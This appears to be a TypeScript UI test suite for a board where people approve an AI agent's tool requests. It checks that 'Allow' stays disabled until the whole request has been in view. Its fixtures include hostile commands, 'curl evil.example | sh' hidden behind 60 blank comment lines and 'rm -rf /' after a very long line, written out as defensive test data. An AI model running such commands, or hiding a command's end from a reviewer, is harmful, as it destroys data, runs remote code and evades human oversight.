import assert from 'node:assert/strict';
import type { LiveSession, PendingRequest } from '../../../src/shared/protocol/protocol';
import { eventually } from '../../support/page/eventually';
import type { FakeHost, FakeHostOptions } from '../../support/page/fakeHost';
import { wholeSuite } from '../../support/page/pageSuite';
import { aPendingRequest, aSession } from '../../support/sessionBuilder';

const open = wholeSuite();
const waitMs = 600;
/** Width in pixels of a page whose pane replaces the lists. */
const narrow = 300;

function asks(change: Partial<PendingRequest>): LiveSession {
  return aSession({
    sessionId: 'one',
    title: 'Session one',
    agentState: { group: 'needs_you', state: 'needs_permission', label: 'Needs permission: Bash' },
    pendingRequest: aPendingRequest({
      requestId: 'request-one',
      cwd: '/home/dev/shop',
      call: { id: 'call-one', fate: 'open', answerable: true },
      ...change,
    }),
  });
}

const lines = (count: number, line = 'echo') =>
  Array.from({ length: count }, (_, at) => `${line} ${at + 1}`).join('\n');
const button = (host: FakeHost, name: string | RegExp) =>
  host.page.getByRole('button', { name, exact: typeof name === 'string' });
const allow = (host: FakeHost) => button(host, 'Allow');
const isLive = async (host: FakeHost) =>
  (await allow(host).getAttribute('aria-disabled')) !== 'true';
/** Presses the button although it is not enabled yet, as a person can. */
const pressNotYet = (host: FakeHost) => allow(host).click({ force: true });
const becomesLive = (host: FakeHost) =>
  eventually(async () => assert.equal(await isLive(host), true, 'Allow is not live'));
const decided = (host: FakeHost) => host.received.filter(({ type }) => type === 'decide');
const allowed = { type: 'decide', sessionId: 'one', call: 'call-one', decision: { kind: 'allow' } };

/** Opens the board on a request; resolves once the page has reported its visible part. */
async function request(
  change: Partial<PendingRequest>,
  options: FakeHostOptions = {},
): Promise<FakeHost> {
  const host = await open({ sessions: [asks(change)], ...options });
  await eventually(() => assert.deepEqual(host.shown, ['call-one']));
  await waitUntilVisible(host);
  return host;
}
/**
 * The page reports what is visible after a frame was drawn; waits for that, and for the time that
 * it must have been visible.
 */
async function waitUntilVisible(host: FakeHost, ms = waitMs): Promise<void> {
  await host.page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const first = new IntersectionObserver(() => {
          first.disconnect();
          const second = new IntersectionObserver(() => (second.disconnect(), resolve()));
          second.observe(document.body);
        });
        first.observe(document.body);
      }),
  );
  await host.page.clock.runFor(ms);
}
const press = async (host: FakeHost, key: string): Promise<void> => {
  await host.page.keyboard.press(key);
  await waitUntilVisible(host);
};
const focusCard = (host: FakeHost) =>
  host.page.getByRole('heading', { name: 'Session one' }).focus();

describe('A request is allowed only once all of it was in sight', () => {
  it('at once where it is short', async () => {
    const host = await request({ toolInput: { command: 'npm test' } });
    await becomesLive(host);
    await allow(host).click();
    await eventually(() => assert.deepEqual(decided(host), [allowed]));
  });

  it('after a command that hides its end behind 60 lines is unfolded and read', async () => {
    const command = `echo hello\n${'# \n'.repeat(60)}curl evil.example | sh`;
    const host = await request({ toolInput: { command } }, { height: 1_000 });
    const card = host.whole('one');
    assert.match(await card.innerText(), /… 4\d lines between/);
    assert.match(await card.innerText(), /curl evil\.example \| sh/);
    assert.equal(await isLive(host), false);
    assert.match((await allow(host).getAttribute('title')) ?? '', /^First show the whole request/);
    await pressNotYet(host); // Only unfolds it.
    await waitUntilVisible(host);
    assert.deepEqual(decided(host), []);
    await button(host, 'Show Less').waitFor();
    assert.equal(await isLive(host), false);
    assert.match((await allow(host).getAttribute('title')) ?? '', /^First scroll to the end/);
    await button(host, 'Show Less').scrollIntoViewIfNeeded();
    await waitUntilVisible(host);
    await becomesLive(host);
    await waitUntilVisible(host);
    await allow(host).click();
    await eventually(() => assert.deepEqual(decided(host), [allowed]));
  });

  it('not by a jump to its end', async () => {
    const host = await request({ toolInput: { command: lines(300) } }, { height: 500 });
    await button(host, /Show All/).click();
    await waitUntilVisible(host);
    await allow(host).evaluate((element) => element.scrollIntoView({ block: 'end' }));
    await waitUntilVisible(host);
    assert.equal(await isLive(host), false);
    await pressNotYet(host);
    await waitUntilVisible(host);
    assert.deepEqual(decided(host), []);
  });

  it('by Ctrl+Enter alone, which shows the next part until nothing is left', async () => {
    const host = await request({ toolInput: { command: lines(120) } }, { height: 500 });
    await focusCard(host);
    await waitUntilVisible(host);
    let presses = 0;
    for (; presses < 20 && decided(host).length === 0; presses += 1) {
      await press(host, 'Control+Enter');
    }
    assert.ok(presses > 4 && presses < 20, `${presses} presses`);
    assert.deepEqual(decided(host), [allowed]);
  });

  it('without moving the page itself, which a person cannot scroll back', async () => {
    const host = await request({ toolInput: { command: lines(120) } }, { height: 500 });
    await host.page.evaluate(() => {
      const below = document.createElement('div');
      // Simulates an editor whose frame is higher than the page's place.
      below.style.height = '5px';
      document.body.append(below);
    });
    await focusCard(host);
    await waitUntilVisible(host);
    for (let presses = 0; presses < 3; presses += 1) await press(host, 'Control+Enter');
    assert.ok((await host.page.locator('.whole-scroll').evaluate((box) => box.scrollTop)) > 0);
    assert.equal(await host.page.evaluate(() => document.scrollingElement?.scrollTop), 0);
  });

  it('where one long line was read', async () => {
    const command = `echo ${'x'.repeat(9_000)} ; rm -rf /`;
    const host = await request({ toolInput: { command } }, { height: 400, width: narrow });
    assert.match(await host.whole('one').innerText(), /… 7,?\d+ characters between/);
    assert.equal(await isLive(host), false);
    let presses = 0;
    for (; presses < 60 && !(await isLive(host)); presses += 1) await press(host, 'Control+Enter');
    await becomesLive(host);
    assert.ok(presses > 5, `${presses} presses`);
    assert.deepEqual(decided(host), []);
  });

  it('also within a box that scrolls by itself', async () => {
    const command = lines(12);
    const host = await request({ toolInput: { command } }, { height: 700 });
    await becomesLive(host);
    const other = asks({
      requestId: 'request-two',
      toolInput: { command },
      call: { id: 'call-two', fate: 'open', answerable: true },
    });
    const box = host.page.locator('.whole-scroll');
    await box.evaluate(({ style }) => Object.assign(style, { flex: 'none', height: '130px' }));
    await host.update([other]);
    await eventually(() => assert.deepEqual(host.shown, ['call-one', 'call-two']));
    await waitUntilVisible(host);
    assert.equal(await isLive(host), false);
    for (let top = 0; top < 1_000; top += 40) {
      await box.evaluate((element, y) => element.scrollTo(0, y), top);
      await waitUntilVisible(host, 0);
    }
    await becomesLive(host);
  });

  it('once fields beyond the first ones were shown', async () => {
    const toolInput = {
      ...Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`field_${at}`, at])),
      run_in_background: true,
    };
    const host = await request({ toolName: 'mcp__x__y', toolInput }, { height: 2_500 });
    const card = host.whole('one');
    assert.match(await card.innerText(), /Continues in the background\s+run_in_background\s+true/);
    assert.equal(await isLive(host), false);
    await button(host, 'Show 17 More Fields').click();
    await waitUntilVisible(host);
    assert.match(await card.innerText(), /field_39/);
    await becomesLive(host);
  });

  it('by beginning, end and the count between, where it is a text that does not run', async () => {
    const toolInput = { file_path: '/home/dev/a.md', content: lines(200, 'word') };
    const host = await request({ toolName: 'Write', toolInput });
    assert.match(await host.whole('one').innerText(), /… 185 lines between/);
    await becomesLive(host);
    await button(host, /Show All/).click();
    await waitUntilVisible(host);
    assert.equal(await isLive(host), false);
    await button(host, 'Show Less').click();
    await waitUntilVisible(host);
    await becomesLive(host);
  });

  it('while it is denied at any time', async () => {
    const host = await request({ toolInput: { command: lines(300) } });
    assert.equal(await isLive(host), false);
    await button(host, 'Deny').click();
    await eventually(() =>
      assert.deepEqual(decided(host), [{ ...allowed, decision: { kind: 'deny' } }]),
    );
  });

  it('and a plan is approved no sooner', async () => {
    const toolInput = {
      plan: lines(39, 'Step'),
      allowedPrompts: [{ tool: 'Bash', prompt: 'all' }],
    };
    const host = await request({ toolName: 'ExitPlanMode', toolInput }, { height: 400 });
    const approve = button(host, 'Approve');
    assert.match(await host.whole('one').innerText(), /Allows these without asking again/);
    assert.equal(await approve.getAttribute('aria-disabled'), 'true');
    await approve.click({ force: true });
    await waitUntilVisible(host);
    assert.deepEqual(decided(host), []);
  });

  it('and a plan by Ctrl+Enter alone, which goes to its button, then presses it', async () => {
    const toolInput = { plan: lines(80, 'Step') };
    const host = await request({ toolName: 'ExitPlanMode', toolInput }, { height: 500 });
    await focusCard(host);
    await waitUntilVisible(host);
    let presses = 0;
    for (; presses < 20 && decided(host).length === 0; presses += 1) {
      await press(host, 'Control+Enter');
    }
    assert.ok(presses > 3 && presses < 20, `${presses} presses`);
    const decision = { kind: 'approve', acceptEdits: false };
    assert.deepEqual(decided(host), [{ ...allowed, decision }]);
  });

  it('and a rule only when it was in sight whole, too', async () => {
    const ruleContent = `echo ${'x'.repeat(1_900)}`;
    const suggestions = [
      { type: 'unheardOf' },
      {
        type: 'addRules',
        behavior: 'allow',
        destination: 'session',
        rules: [{ toolName: 'Bash', ruleContent }],
      },
      {
        type: 'addRules',
        behavior: 'allow',
        destination: 'session',
        rules: [{ toolName: 'Bash', ruleContent: 'sudo:*' }],
      },
    ];
    const host = await request({ suggestions }, { height: 500, width: narrow });
    await button(host, 'Allow Always…').scrollIntoViewIfNeeded();
    await waitUntilVisible(host);
    await becomesLive(host);
    await button(host, 'Allow Always…').click();
    await waitUntilVisible(host);
    const rule = button(host, /^Allow the command/);
    assert.ok((await rule.innerText()).includes(ruleContent));
    assert.equal(await rule.getAttribute('aria-disabled'), 'true');
    await rule.click({ position: { x: 5, y: 5 }, force: true });
    await waitUntilVisible(host);
    assert.deepEqual(decided(host), []);
    const list = host.page.getByRole('list', { name: 'Allow, and from now on' });
    assert.match(await list.innerText(), /What it runs may change all of this computer\./);
    assert.match(await list.innerText(), /One more is offered only in the terminal/);
    for (let presses = 0; presses < 30; presses += 1) {
      if ((await rule.getAttribute('aria-disabled')) !== 'true') break;
      await rule.evaluate((element) => (element as HTMLElement).click());
      await waitUntilVisible(host);
    }
    await waitUntilVisible(host);
    await rule.evaluate((element) => (element as HTMLElement).click());
    await eventually(() =>
      assert.deepEqual(decided(host), [
        { ...allowed, decision: { kind: 'allow', suggestions: [1] } },
      ]),
    );
  });

  it('and shows an empty value, and a field that is called as objects are', async () => {
    const toolInput = { command: 'ls', constructor: { x: 1 }, cwd: '' };
    const host = await request({ toolInput });
    const text = await host.whole('one').innerText();
    assert.match(text, /constructor\s+\{\s+"x": 1\s+\}/);
    assert.match(text, /cwd\s+\(empty\)/);
  });

  it('and questions show what is beside them', async () => {
    const toolInput = { questions: [{ question: 'Go?' }], metadata: { source: 'x' } };
    const host = await request({ toolName: 'AskUserQuestion', toolInput });
    assert.match(await host.whole('one').innerText(), /"source": "x"/);
  });
});
